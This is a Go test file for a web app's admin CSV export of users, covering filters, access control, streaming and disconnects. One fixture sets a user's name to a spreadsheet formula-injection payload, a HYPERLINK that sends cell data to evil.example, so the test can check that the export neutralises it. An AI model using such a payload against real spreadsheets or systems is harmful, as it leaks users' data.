package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/weekoffs/weekoffs/models"
	"github.com/weekoffs/weekoffs/web"
)

// exportHeader is the header row the contract (shared/API.md) and the
// import expect, with the id and the pattern in words besides.
var exportHeader = []string{"id", "email", "full_name", "role", "team", "is_active", "weekoffs", "pattern", "rules", "created_at"}

// exported is a CSV export as a spreadsheet reads it: its rows by email,
// each a map from the header's names.
type exported struct {
	header []string
	rows   []map[string]string
}

func (e exported) emails() []string {
	var out []string
	for _, r := range e.rows {
		out = append(out, r["email"])
	}
	return out
}

func (e exported) row(t *testing.T, email string) map[string]string {
	t.Helper()
	for _, r := range e.rows {
		if r["email"] == email {
			return r
		}
	}
	t.Fatalf("no row for %s in %v", email, e.emails())
	return nil
}

// readExport parses an export's body as a spreadsheet would: UTF-8 after
// its byte-order mark, RFC 4180 quoting.
func readExport(t *testing.T, body []byte) exported {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Errorf("the file does not start with a UTF-8 byte-order mark: %q", body[:min(len(body), 20)])
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("read CSV: %v\n%s", err, body)
	}
	e := exported{header: records[0]}
	for _, rec := range records[1:] {
		r := map[string]string{}
		for i, name := range e.header {
			r[name] = rec[i]
		}
		e.rows = append(e.rows, r)
	}
	return e
}

// exportFixture is an organisation worth exporting: a team with a schedule
// of its own, a member with an accented name who follows it, an employee
// whose name is a spreadsheet formula, a deactivated employee, the admin.
type exportFixture struct {
	a               *app
	token, empToken string
	teamID          int64
}

func newExportFixture(t *testing.T) exportFixture {
	t.Helper()
	a, _, token := newAdminApp(t)
	_, empToken := a.userWithToken("emp@example.com", models.RoleEmployee, "fri")
	var team struct {
		ID int64 `json:"id"`
	}
	decode(t, a.do(call{method: "POST", path: "/admin/teams", token: token, body: map[string]any{"name": "Équipe Nord"}, want: http.StatusCreated}), &team)
	a.do(call{method: "PUT", path: "/admin/teams/" + itoa(team.ID) + "/schedule", token: token,
		body: `{"rules":[{"day":"saturday","weeks":"alternate"},{"day":"sunday"}]}`, want: http.StatusOK})
	renee := a.user("renee@example.com", models.RoleEmployee)
	a.do(call{method: "PATCH", path: "/admin/users/" + itoa(renee.ID), token: token,
		body: map[string]any{"full_name": "Renée Ørsted-Ñúñez", "team_id": team.ID}, want: http.StatusOK})
	formula := a.user("formula@example.com", models.RoleEmployee, "sat", "sun")
	a.do(call{method: "PATCH", path: "/admin/users/" + itoa(formula.ID), token: token,
		body: map[string]any{"full_name": `=HYPERLINK("http://evil.example/?d="&A1,"Open")`}, want: http.StatusOK})
	gone := a.user("gone@example.com", models.RoleEmployee, "mon")
	a.do(call{method: "PATCH", path: "/admin/users/" + itoa(gone.ID), token: token, body: map[string]any{"is_active": false}, want: http.StatusOK})
	return exportFixture{a: a, token: token, empToken: empToken, teamID: team.ID}
}

// get exports with the admin's bearer token.
func (fx exportFixture) get(t *testing.T, query string) *httptest.ResponseRecorder {
	t.Helper()
	return fx.a.do(call{method: "GET", path: "/admin/users/export.csv" + query, token: fx.token})
}

func TestExportUsersCSV(t *testing.T) {
	t.Parallel()
	fx := newExportFixture(t)
	res := fx.get(t, "")
	wantStatus(t, res, http.StatusOK)
	org, err := fx.a.store.Organisation(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	wantFile := `attachment; filename="users-` + time.Now().In(org.Location()).Format(time.DateOnly) + `.csv"`
	if got := res.Header().Get("Content-Disposition"); got != wantFile {
		t.Errorf("Content-Disposition: got %q, want %q", got, wantFile)
	}
	if got := res.Header().Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type: got %q", got)
	}
	if got := res.Header().Get("Cache-Control"); got != "no-store" {
		t.Errorf("Cache-Control: got %q, want no-store: the file holds personal data", got)
	}

	e := readExport(t, res.Body.Bytes())
	if !slices.Equal(e.header, exportHeader) {
		t.Errorf("header: got %v, want %v", e.header, exportHeader)
	}
	// Every user, the deactivated one too, by name (the list's default order).
	wantEmails := []string{"formula@example.com", "admin@example.com", "emp@example.com", "gone@example.com", "renee@example.com"}
	if got := e.emails(); !slices.Equal(got, wantEmails) {
		t.Errorf("rows by name: got %v, want %v", got, wantEmails)
	}

	formula := e.row(t, "formula@example.com")
	if want := `'=HYPERLINK("http://evil.example/?d="&A1,"Open")`; formula["full_name"] != want {
		t.Errorf("a formula name: got %q, want %q (neutralised with a quote)", formula["full_name"], want)
	}
	if formula["weekoffs"] != "saturday sunday" || formula["pattern"] != "every Sat, every Sun" || formula["team"] != "" {
		t.Errorf("own days: %v", formula)
	}

	renee := e.row(t, "renee@example.com")
	if renee["full_name"] != "Renée Ørsted-Ñúñez" || renee["team"] != "Équipe Nord" {
		t.Errorf("accented name and team: %v", renee)
	}
	if renee["weekoffs"] != "saturday sunday" || renee["pattern"] != "alternate Sat, every Sun (team)" {
		t.Errorf("the team's days: weekoffs %q, pattern %q", renee["weekoffs"], renee["pattern"])
	}
	var rules []map[string]any
	if err := json.Unmarshal([]byte(renee["rules"]), &rules); err != nil || len(rules) != 2 ||
		rules[0]["day"] != "saturday" || rules[0]["weeks"] != "alternate" || rules[1]["part"] != "full" {
		t.Errorf("rules: %q (%v)", renee["rules"], err)
	}

	gone := e.row(t, "gone@example.com")
	if gone["is_active"] != "false" || gone["role"] != "employee" || gone["weekoffs"] != "monday" {
		t.Errorf("the deactivated user: %v", gone)
	}
	admin := e.row(t, "admin@example.com")
	if admin["is_active"] != "true" || admin["role"] != "admin" || admin["rules"] != "[]" || admin["pattern"] != "none" {
		t.Errorf("the admin: %v", admin)
	}
	if _, err := time.Parse(time.RFC3339, admin["created_at"]); err != nil || admin["id"] == "" {
		t.Errorf("created_at %q (%v), id %q", admin["created_at"], err, admin["id"])
	}
}

func TestExportUsersCSVFilters(t *testing.T) {
	t.Parallel()
	fx := newExportFixture(t)
	for _, c := range []struct{ query, why string }{
		{"?role=admin", "the role"},
		{"?q=renee", "search without accents"},
		{"?q=%C3%98RSTED+ren%C3%A9e", "search words in any order, case and accents"},
		{"?team=" + itoa(fx.teamID), "the team"},
		{"?team=none&weekoff=Fri", "no team, off on Friday"},
		{"?weekoff=saturday", "off on Saturday, by the team's schedule or one's own"},
		{"?sort=-email&limit=1&cursor=junk&start=9", "descending email; paging does not apply to a file"},
	} {
		res := fx.get(t, c.query)
		wantStatus(t, res, http.StatusOK)
		want := listEmails(t, fx, c.query)
		if got := readExport(t, res.Body.Bytes()).emails(); !slices.Equal(got, want) {
			t.Errorf("%s (%s): got %v, want %v", c.query, c.why, got, want)
		}
	}
}

// listEmails is what the users list shows for the query's filters, every
// page of it: what the export of the same filters must hold.
func listEmails(t *testing.T, fx exportFixture, query string) []string {
	t.Helper()
	q, err := url.ParseQuery(strings.TrimPrefix(query, "?"))
	if err != nil {
		t.Fatal(err)
	}
	f, errs := web.ParseExportFilter(q)
	if errs != nil {
		t.Fatalf("%s: %v", query, errs)
	}
	f.Limit = models.ListLimitMax
	page, err := fx.a.store.ListUsers(t.Context(), f)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, u := range page.Items {
		out = append(out, u.Email)
	}
	if len(out) == 0 {
		t.Fatalf("%s lists nobody: a weak case", query)
	}
	return out
}

func TestExportUsersCSVRefused(t *testing.T) {
	t.Parallel()
	fx := newExportFixture(t)
	a := fx.a
	a.do(call{method: "GET", path: "/admin/users/export.csv", want: http.StatusUnauthorized})
	res := a.do(call{method: "GET", path: "/admin/users/export.csv", token: fx.empToken, want: http.StatusForbidden})
	if strings.Contains(res.Body.String(), "@example.com") || res.Header().Get("Content-Disposition") != "" {
		t.Errorf("an employee's 403 carries the file: %v %s", res.Header(), res.Body)
	}

	res = fx.get(t, "?role=boss&weekoff=funday&team=abc&sort=age&q=%00")
	wantStatus(t, res, http.StatusUnprocessableEntity)
	if res.Header().Get("Content-Disposition") != "" || !strings.HasPrefix(res.Header().Get("Content-Type"), "application/json") {
		t.Errorf("a 422 is JSON, not a file: %v", res.Header())
	}
	for _, name := range []string{"role", "weekoff", "team", "sort", "q"} {
		if !hasErrorAt(detailOf(t, res), "query", name) {
			t.Errorf("the 422 does not name %s: %s", name, res.Body)
		}
	}
}

func TestExportUsersCSVInBrowser(t *testing.T) {
	t.Parallel()
	fx := newExportFixture(t)
	a := fx.a
	admin, err := a.store.UserByEmail(t.Context(), "admin@example.com")
	if err != nil {
		t.Fatal(err)
	}
	browser := a.signedIn(admin)

	// The list offers the file of what it shows, with its filters and order.
	page := browser.get("/admin/users?role=employee&sort=-email&limit=2")
	wantStatus(t, page, http.StatusOK)
	wantBody(t, page, `href="/admin/users/export.csv?role=employee&amp;sort=-email"`, "Export these 4 users")

	res := browser.get("/admin/users/export.csv?role=employee&sort=-email")
	wantStatus(t, res, http.StatusOK)
	want := []string{"renee@example.com", "gone@example.com", "formula@example.com", "emp@example.com"}
	if got := readExport(t, res.Body.Bytes()).emails(); !slices.Equal(got, want) {
		t.Errorf("the browser's file: got %v, want %v", got, want)
	}

	emp, err := a.store.UserByEmail(t.Context(), "emp@example.com")
	if err != nil {
		t.Fatal(err)
	}
	res = a.signedIn(emp).get("/admin/users/export.csv")
	wantStatus(t, res, http.StatusForbidden)
	if strings.Contains(res.Body.String(), "renee@example.com") {
		t.Errorf("an employee's browser gets the file: %s", res.Body)
	}
	// A page's refused address is a page not found, as everywhere.
	res = browser.get("/admin/users/export.csv?weekoff=funday")
	wantStatus(t, res, http.StatusNotFound)
	if res.Header().Get("Content-Disposition") != "" {
		t.Errorf("a refused filter still downloads a file: %v", res.Header())
	}
	wantRedirect(t, a.visitor().get("/admin/users/export.csv"), "/login?next=%2Fadmin%2Fusers%2Fexport.csv")

	// HEAD says what GET would send, without reading the users.
	res = a.do(call{method: "HEAD", path: "/admin/users/export.csv", token: fx.token, want: http.StatusOK})
	if res.Body.Len() != 0 || res.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Errorf("HEAD: %v, %d bytes", res.Header(), res.Body.Len())
	}
}

// TestExportUsersCSVStreams shows the file leaving as it is read: the
// header row reaches the reader before the first user is written, and
// further rows keep coming in parts; and a reader who hangs up mid-file
// ends the export, with the connection broken rather than a short file
// completed.
func TestExportUsersCSVStreams(t *testing.T) {
	t.Parallel()
	a := newApp(t, nil)
	const users = 3000
	if _, err := a.store.Seed(t.Context(), users, "password1", nil); err != nil {
		t.Fatal(err)
	}
	token := a.token(models.SeedAdminEmail, "password1")

	w := &flushRecorder{ResponseRecorder: httptest.NewRecorder()}
	req := httptest.NewRequest("GET", "/admin/users/export.csv", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	a.server.Handler().ServeHTTP(w, req)
	if w.Code != http.StatusOK || len(w.flushes) < 2 {
		t.Fatalf("status %d, %d flushes", w.Code, len(w.flushes))
	}
	if first := w.flushes[0]; !strings.HasSuffix(first, "created_at\r\n") || strings.Count(first, "\n") != 1 {
		t.Errorf("the first flush holds %q, want the header row alone", first[:min(len(first), 300)])
	}
	if rows := strings.Count(w.Body.String(), "\n") - 1; rows != users {
		t.Errorf("rows: got %d, want %d", rows, users)
	}

	// The reader goes away after the header: the handler aborts the response.
	cut := &flushRecorder{ResponseRecorder: httptest.NewRecorder(), failAfter: 1}
	var recovered any
	func() {
		defer func() { recovered = recover() }()
		a.server.Handler().ServeHTTP(cut, req)
	}()
	if recovered != http.ErrAbortHandler {
		t.Errorf("a failed write: got panic %v, want http.ErrAbortHandler (a broken connection)", recovered)
	}
	if !strings.Contains(a.logs.String(), `"msg":"export stopped"`) {
		t.Errorf("the stop is not logged")
	}
}

// flushRecorder records what was written before each flush; with failAfter
// above 0, writes fail after that many flushes, as to a reader who left.
type flushRecorder struct {
	*httptest.ResponseRecorder
	mu        sync.Mutex
	flushes   []string
	mark      int
	failAfter int
}

func (f *flushRecorder) Write(p []byte) (int, error) {
	if f.failAfter > 0 && len(f.flushes) >= f.failAfter {
		return 0, http.ErrHandlerTimeout
	}
	return f.ResponseRecorder.Write(p)
}

func (f *flushRecorder) Flush() {
	f.mu.Lock()
	defer f.mu.Unlock()
	body := f.Body.String()
	f.flushes = append(f.flushes, body[f.mark:])
	f.mark = len(body)
	f.ResponseRecorder.Flush()
}
